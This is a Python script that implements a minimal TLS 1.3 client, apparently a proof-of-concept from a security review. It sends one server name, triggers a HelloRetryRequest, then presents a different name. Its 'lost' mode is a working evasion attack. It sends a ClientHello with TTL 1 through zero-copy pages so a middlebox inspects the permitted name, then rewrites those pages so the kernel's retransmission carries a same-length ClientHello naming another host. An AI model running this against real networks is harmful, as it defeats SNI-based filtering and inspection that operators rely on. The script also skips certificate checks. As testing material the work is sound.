"""A minimal TLS 1.3 client whose first ClientHello names FIRST and offers no key share, so the
server answers HelloRetryRequest; the second ClientHello names SECOND. Finishes the
handshake (no certificate check), sends GET / with Host SECOND and prints the reply's last
line.   python3 hrr.py ADDR PORT FIRST SECOND [lost]
With `lost` (the fourth review's attack): the second ClientHello is sent naming FIRST, with
MSG_ZEROCOPY and an IP TTL of 1 (judged, then lost at the next router); after "sent" is printed
and "go" read on stdin, its pages are rewritten to a ClientHello of the same length naming
SECOND, which the kernel's retransmission carries."""
import hashlib, hmac, os, socket, struct, sys
from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

addr, port, first, second = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
lost = sys.argv[5:] == ["lost"]
H = lambda b: hashlib.sha256(b).digest()
HRR_RANDOM = bytes.fromhex("CF21AD74E59A6111BE1D8C021E65B891C2A211167ABB8C5E079E09E2C8A8339C")


def u8(b): return bytes([len(b)]) + b
def u16(b): return struct.pack("!H", len(b)) + b
def u24(b): return struct.pack("!I", len(b))[1:] + b
def ext(t, body): return struct.pack("!H", t) + u16(body)


def extract(salt, ikm): return hmac.new(salt, ikm, hashlib.sha256).digest()


def expand_label(secret, label, ctx, n):
    info = struct.pack("!H", n) + u8(b"tls13 " + label) + u8(ctx)
    out, t, i = b"", b"", 1
    while len(out) < n:
        t = hmac.new(secret, t + info + bytes([i]), hashlib.sha256).digest()
        out += t
        i += 1
    return out[:n]


def derive(secret, label, transcript): return expand_label(secret, label, H(transcript), 32)


def client_hello(name, share, random, sid, pad=None):
    exts = ext(0, u16(b"\x00" + u16(name.encode())))
    exts += ext(10, u16(b"\x00\x1d"))
    exts += ext(13, u16(b"\x04\x03\x08\x04\x04\x01\x08\x07"))
    exts += ext(43, u8(b"\x03\x04"))
    exts += ext(45, u8(b"\x01"))
    exts += ext(51, u16(b"" if share is None else b"\x00\x1d" + u16(share)))
    if pad is not None:
        exts += ext(21, b"\x00" * pad)  # padding (RFC 7685): the same length as another
    body = b"\x03\x03" + random + u8(sid) + u16(b"\x13\x01") + u8(b"\x00") + u16(exts)
    return b"\x01" + u24(body)


s = socket.create_connection((addr, port), timeout=5)
buf = b""


def record():
    global buf
    while len(buf) < 5 or len(buf) < 5 + struct.unpack("!H", buf[3:5])[0]:
        d = s.recv(65536)
        if not d:
            raise ConnectionError("closed after %r" % buf[:16])
        buf += d
    n = struct.unpack("!H", buf[3:5])[0]
    r, buf = buf[:5 + n], buf[5 + n:]
    return r[0], r[:5], r[5:]


def plain_handshake():
    while True:
        t, _, body = record()
        if t == 20:
            continue  # middlebox compatibility change_cipher_spec
        if t == 21:
            raise ConnectionError("alert %r" % body)
        assert t == 22, t
        return body


sid = os.urandom(32)
ch1 = client_hello(first, None, os.urandom(32), sid)
s.sendall(b"\x16\x03\x01" + u16(ch1))
hrr = plain_handshake()
assert hrr[0] == 2 and hrr[6:38] == HRR_RANDOM, "no HelloRetryRequest"
priv = X25519PrivateKey.generate()
pub = priv.public_key().public_bytes_raw() if hasattr(priv.public_key(), "public_bytes_raw") else \
    priv.public_key().public_bytes(__import__("cryptography.hazmat.primitives.serialization", fromlist=["x"]).Encoding.Raw,
                                   __import__("cryptography.hazmat.primitives.serialization", fromlist=["x"]).PublicFormat.Raw)
rnd2 = os.urandom(32)
ch2 = client_hello(second, pub, rnd2, sid)
if not lost:
    s.sendall(b"\x14\x03\x03\x00\x01\x01" + b"\x16\x03\x03" + u16(ch2))
else:
    import mmap
    judged = client_hello(first, pub, rnd2, sid)
    ch2 = client_hello(second, pub, rnd2, sid, len(judged) - len(ch2) - 4)
    assert len(ch2) == len(judged)
    good = b"\x14\x03\x03\x00\x01\x01" + b"\x16\x03\x03" + u16(judged)
    evil = b"\x14\x03\x03\x00\x01\x01" + b"\x16\x03\x03" + u16(ch2)
    MSG_ZEROCOPY, SO_ZEROCOPY = 0x4000000, 60
    pages = mmap.mmap(-1, 4096)
    pages[:len(good)] = good
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)
    s.send(memoryview(pages)[:len(good)], MSG_ZEROCOPY)
    print("sent", flush=True)
    if sys.stdin.readline().strip() != "go":
        sys.exit(1)
    pages[:len(evil)] = evil
    s.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 64)
sh = plain_handshake()
assert sh[0] == 2
transcript = b"\xfe\x00\x00\x20" + H(ch1) + hrr + ch2 + sh
# the server's key share: walk SH extensions
p = 4 + 2 + 32
p += 1 + sh[p] + 2 + 1
exts = sh[p + 2:]
shared = None
while exts:
    t, n = struct.unpack("!HH", exts[:4])
    if t == 51:
        shared = priv.exchange(__import__("cryptography.hazmat.primitives.asymmetric.x25519", fromlist=["x"])
                               .X25519PublicKey.from_public_bytes(exts[4 + 4:4 + n]))
    exts = exts[4 + n:]
early = extract(b"\0" * 32, b"\0" * 32)
hs = extract(derive(early, b"derived", b""), shared)
c_hs, s_hs = derive(hs, b"c hs traffic", transcript), derive(hs, b"s hs traffic", transcript)


class Keys:
    def __init__(self, secret):
        self.aead = AESGCM(expand_label(secret, b"key", b"", 16))
        self.iv = expand_label(secret, b"iv", b"", 12)
        self.seq = 0

    def nonce(self):
        n = bytes(4) + struct.pack("!Q", self.seq)
        self.seq += 1
        return bytes(a ^ b for a, b in zip(self.iv, n))

    def open(self, hdr, body):
        pt = self.aead.decrypt(self.nonce(), body, hdr).rstrip(b"\0")
        return pt[-1], pt[:-1]

    def seal(self, typ, data):
        hdr = b"\x17\x03\x03" + struct.pack("!H", len(data) + 1 + 16)
        return hdr + self.aead.encrypt(self.nonce(), data + bytes([typ]), hdr)


rk = Keys(s_hs)
hsbuf = b""
while True:
    t, hdr, body = record()
    if t == 20:
        continue
    if t == 21:
        raise ConnectionError("alert %r" % body)
    typ, pt = rk.open(hdr, body)
    assert typ == 22, typ
    hsbuf += pt
    done = False
    while len(hsbuf) >= 4 and len(hsbuf) >= 4 + int.from_bytes(hsbuf[1:4], "big"):
        n = 4 + int.from_bytes(hsbuf[1:4], "big")
        msg, hsbuf = hsbuf[:n], hsbuf[n:]
        transcript += msg
        if msg[0] == 20:
            done = True
    if done:
        break
master = extract(derive(hs, b"derived", b""), b"\0" * 32)
c_ap, s_ap = derive(master, b"c ap traffic", transcript), derive(master, b"s ap traffic", transcript)
fin = hmac.new(expand_label(c_hs, b"finished", b"", 32), H(transcript), hashlib.sha256).digest()
wk = Keys(c_hs)
s.sendall(wk.seal(22, b"\x14" + u24(fin)))
wk, rk = Keys(c_ap), Keys(s_ap)
s.sendall(wk.seal(23, ("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % second).encode()))
reply = b""
try:
    while True:
        t, hdr, body = record()
        if t == 21:
            break
        typ, pt = rk.open(hdr, body)
        if typ == 23:
            reply += pt
        elif typ == 21:
            break
except (ConnectionError, socket.timeout) as e:
    pass
print(reply.decode(errors="replace").strip().splitlines()[-1] if reply else "error no reply")
